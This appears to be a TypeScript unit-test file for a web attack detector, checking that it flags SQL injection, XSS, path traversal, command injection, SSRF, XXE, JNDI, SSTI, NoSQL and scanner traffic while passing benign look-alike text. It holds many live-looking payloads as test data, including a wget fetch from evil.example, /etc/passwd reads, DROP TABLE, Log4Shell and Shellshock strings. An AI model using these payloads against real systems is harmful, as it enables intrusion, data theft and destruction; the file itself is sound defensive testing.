// Unit tests of the attack detectors: each family fires on its payloads (in several request parts) and stays
// quiet on benign values that trip rule-based WAFs.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { detect, familiesInJson, familiesInQuery } from './attack.helpers.ts';

function assertFamily(values: string[], family: string): void {
  for (const v of values) assert.ok(familiesInQuery(v).includes(family), `${family} not detected in query: ${v}`);
}

test('sqli: tautologies, UNION SELECT, stacked queries, time functions, comment truncation', () => {
  assertFamily([
    "1' OR '1'='1", '1234 OR 1=1', "x' AND 526=527", "foo') UNION ALL SELECT NULL --", '-1 union select 1,2,3',
    "1; DROP TABLE users", "admin'--", "1' and sleep(5) --", "'; waitfor delay '0:0:5'--", 'benchmark(5000000,md5(1))',
    "x' or username like 'a%' --", 'select * from users where id=1', "' or 1=1#", '1 AND extractvalue(1,concat(0x7e,version()))',
  ], 'sqli');
});

test('xss: tags, event handlers, script URLs, DOM sinks', () => {
  assertFamily([
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>', "' onmouseover='alert(1)'",
    'javascript:alert(document.cookie)', '<iframe src="javascript:alert(1)">', 'document.cookie', '<body onload=prompt(1)>',
  ], 'xss');
});

test('path traversal: dot-dot sequences in many encodings and sensitive files', () => {
  assertFamily(['../../../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc/shadow', '/proc/self/environ', 'C:\\boot.ini'], 'path_traversal');
  assert.ok(detect({ target: '/static/%2e%2e/%2e%2e/etc/passwd' }).some((d) => d.type === 'path_traversal'));
  assert.ok(detect({ target: '/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd' }).some((d) => d.type === 'path_traversal'));
  assert.ok(detect({ target: '/.git/config' }).some((d) => d.rule === 'path_traversal.hidden_file' || d.rule === 'path_traversal.sensitive_file'));
  assert.deepEqual(detect({ target: '/.well-known/openid-configuration' }), []);
});

test('command injection: separators with commands, substitution, obfuscated words, Windows batch', () => {
  assertFamily([
    '127.0.0.1; cat /etc/passwd', 'x | whoami', '$(id)', '`uname -a`', 'a && wget http://evil.example/x.sh',
    "c'a't /etc/hosts; ls", 'x;w\\hoami', '${IFS}cat${IFS}/etc/passwd', 'for %i in (a,b) do echo %i', 'a | sh',
  ], 'command_injection');
});

test('ssrf: internal, obfuscated and metadata hosts, dangerous schemes', () => {
  assertFamily([
    'http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:8080/admin', 'http://localhost/', 'gopher://x:70/_payload',
    'http://2130706433/', 'http://0x7f000001/', 'http://[::1]/', 'file:///etc/passwd', 'http://metadata.google.internal/',
  ], 'ssrf');
  assert.deepEqual(familiesInQuery('https://hooks.example.com/callback?id=7'), []);
});

test('xxe: external and parameter entities in an XML body', () => {
  const body = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
  const ds = detect({ method: 'POST', target: '/soap', requestType: 'application/xml', requestBody: body });
  assert.equal(ds.find((d) => d.type === 'xxe')?.rule, 'xxe.external_entity');
  const pe = detect({ method: 'POST', target: '/soap', requestType: 'text/xml', requestBody: '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://x/e.dtd"> %p;]><r/>' });
  assert.equal(pe.find((d) => d.type === 'xxe')?.rule, 'xxe.parameter_entity');
});

test('jndi: plain and nested lookups in any header, also structural ones', () => {
  for (const v of ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '${${env:NOPE:-j}ndi${upper::}ldap://x/a}']) {
    for (const header of ['User-Agent', 'X-Api-Version', 'Accept', 'Referer']) {
      const ds = detect({ requestHeaders: [[header, v]] });
      assert.ok(ds.some((d) => d.type === 'jndi_injection'), `jndi not detected in ${header}: ${v}`);
    }
  }
  assert.ok(detect({ target: '/a?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D' }).some((d) => d.type === 'jndi_injection'));
  assert.deepEqual(detect({ requestHeaders: [['X-Template', '${user.name} ${lower:ABC}']] }), []);
});

test('ssti: arithmetic probes, object walks, engine internals; plain placeholders are fine', () => {
  assertFamily(['{{7*7}}', '${7*7}', '<%= 7*7 %>', "{{''.__class__.__mro__[1].__subclasses__()}}", '{{config.items()}}', '#{T(java.lang.Runtime).getRuntime()}'], 'ssti');
  assert.deepEqual(familiesInJson('Hello {{name}}, your order {{orderId}} has shipped'), []);
});

test('nosql: operator keys, operator parameters and $where', () => {
  const body = detect({ method: 'POST', target: '/login', requestType: 'application/json', requestBody: '{"user":"admin","password":{"$ne":null}}' });
  assert.equal(body.find((d) => d.type === 'nosql_injection')?.rule, 'nosql_injection.operator_object');
  const key = detect({ method: 'POST', target: '/login', requestType: 'application/json', requestBody: '{"user":"admin","password":{"$gt":""}}' });
  assert.equal(key.find((d) => d.type === 'nosql_injection')?.rule, 'nosql_injection.operator_key');
  assert.deepEqual(detect({ method: 'POST', target: '/pay', requestType: 'application/json', requestBody: '{"price":"$12.00","currency":"USD"}' }), []);
  assert.ok(detect({ target: '/login?user=admin&password[$ne]=x' }).some((d) => d.type === 'nosql_injection'));
  assert.ok(familiesInQuery("'; return true; var x='").includes('nosql_injection'));
});

test('scanner: tool user agents, tool headers and callback domains', () => {
  for (const ua of ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6)', 'Mozilla/5.0 (compatible; Nuclei)', 'nessus']) {
    assert.equal(detect({ requestHeaders: [['User-Agent', ua]] }).find((d) => d.type === 'scanner')?.rule, 'scanner.user_agent');
  }
  assert.ok(detect({ requestHeaders: [['Acunetix-Product', 'WVS/12']] }).some((d) => d.type === 'scanner'));
  assert.ok(familiesInQuery('http://abc123.oastify.com/').includes('scanner'));
  assert.deepEqual(detect({ requestHeaders: [['User-Agent', 'curl/8.4.0']] }), []);
});

test('no false positives on phrases that trip rule-based WAFs, Chinese text, JSON bodies and PUT requests', () => {
  const benign = [
    'ping pong table', '1 < 2 and 3 > 2', 'Tom & Jerry', "O'Brien", "rock 'n' roll", 'select your plan from the list',
    "It's 5 o'clock; time to go", 'fish & chips; tea', 'Is it 1 or 2?', 'price >= 100 and <= 200', 'delete my account please',
    '<p>Hello <strong>world</strong></p>', 'drop-down menu', 'a || b', 'R&D | Sales', '50% off -- today only',
    '关于系统升级的通知：我们将于本周六凌晨进行系统维护，届时服务将暂停（约2小时）。', '北京市朝阳区建国路88号', '搜索：苹果 | 香蕉 | 橙子',
    '《用户协议》与《隐私政策》已更新', '测试 OR 1=1 这样的文字不应该被误报', '价格：￥199.00，优惠后￥149.00', 'email me at alice@example.com',
  ];
  for (const v of benign) {
    assert.deepEqual(familiesInQuery(v), [], `query: ${v}`);
    assert.deepEqual(familiesInJson(v, 'PUT'), [], `PUT JSON: ${v}`);
  }
  const order = JSON.stringify({ customer: { name: '张伟', phone: '13800138000' }, items: [{ sku: 'SKU-1', qty: 2, note: '请在工作日送货' }], total: 199.5 });
  assert.deepEqual(detect({ method: 'PUT', target: '/api/v2/orders/9', requestType: 'application/json', requestBody: order }), []);
});

test('command injection: obfuscated words and brace expansions fire; quoted words and word-like commands in prose do not', () => {
  assertFamily(['pi$()ng 127.0.0.1', 'ping``  127.0.0.1', '""w""h""o""a""m""i""', 'c{a,oun}t /etc/hosts', '{,ip,a}', 'x;c$@at /et$@c/pas$@swd', '/usr/bin/id', 'a | sh'], 'command_injection');
  for (const v of ["'cat' is an animal", 'cat /dog (pets)', 'type 2 diabetes', 'echo chamber', 'sleep well (8 hours)', 'python is fun', 'rock | paper | scissors', 'php|ruby|node']) {
    assert.deepEqual(familiesInQuery(v), [], v);
  }
});

test('sqli: fragments after a quote break or as SQL clauses fire; their English look-alikes do not', () => {
  assertFamily(['in (0,1)', "x'|email--", "id'not like id--", ') AS orders FROM', '` AS `edit_user_id` from', 'FROM ack_variable WHERE name="cron_last";', ') when 234 then', 'password::int', "admin' collate nocase--"], 'sqli');
  for (const v of ['in (2 weeks)', 'in (1,2', 'from home where I live', 'execute the plan', 'having 2 kids = busy', 'alter table layout', 'union station, gate 4', 'Order by phone: 555-0100', "it's 1 = 1 they said"]) {
    assert.deepEqual(familiesInQuery(v), [], v);
  }
});

test('user agents: list separators are not shell separators; Shellshock is', () => {
  for (const ua of ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Mozilla/5.0 (compatible; curl/8.4; +https://example.com)', 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0']) {
    assert.ok(!detect({ requestHeaders: [['User-Agent', ua]] }).some((d) => d.type === 'command_injection'), ua);
  }
  const shellshock = detect({ requestHeaders: [['User-Agent', '() { :; }; /bin/bash -c "cat /etc/passwd"']] });
  assert.ok(shellshock.some((d) => d.type === 'command_injection'));
  assert.ok(detect({ requestHeaders: [['User-Agent', 'x; cat /etc/passwd']] }).some((d) => d.type === 'command_injection'));
});

test('sqli grammar: bare operators, probe words, statements without a quote, glued comments and escaped quotes', () => {
  const rules = (v: string): string[] => detect({ target: `/api/search?q=${encodeURIComponent(v)}` }).map((d) => d.rule ?? '');
  for (const [v, rule] of [
    ['<>', 'sqli.operator_only'], ['!=', 'sqli.operator_only'], ['IS  NOT NULL', 'sqli.operator_only'], ['XOR', 'sqli.operator_only'],
    ['tempdb', 'sqli.schema_probe'], ['Northwind', 'sqli.schema_probe'], ['MSysAccessObjects', 'sqli.schema_probe'], ['SCHEMA_NAME', 'sqli.schema_probe'],
    ['4294967296', 'sqli.integer_overflow'], ['execute xp_dirtree', 'sqli.statement'], ["VALUES ('a', 'b')", 'sqli.statement'],
    ['/CREATE TABLE Persons', 'sqli.statement'], ['div (23.23 , 2)', 'sqli.function'], ['6 As" from', 'sqli.alias_from'], ['; as not from', 'sqli.alias_from'],
    ['ORder by', 'sqli.order_by'], ['DR/**/OP/*x*/users', 'sqli.comment_obfuscation'], ["\\'and", 'sqli.boolean_injection'], ["admin '", 'sqli.quote_break'],
  ] as const) {
    assert.ok(rules(v).includes(rule), `${v}: ${rules(v).join(', ')}`);
  }
  // the same words in their ordinary API uses
  for (const v of ['2147483647', '4294967295', 'xorshift', '<', '>', 'and', 'like', 'regexp', 'gte', 'execute order 66', 'create table of contents', 'drop table reservation at 7', 'order by phone', 'such as from home', "O'Brien", "Mary-Kate O'Neil", 'admin', "it's"]) {
    assert.deepEqual(rules(v), [], v);
  }
  assert.deepEqual(familiesInJson("I'd like to drop off my order"), []);
  assert.deepEqual(detect({ method: 'POST', target: '/api/customers', requestType: 'application/json', requestBody: JSON.stringify({ lastName: "D'Angelo", plan: 'select a plan', note: 'drop us a line', count: 4294967295 }) }), []);
});
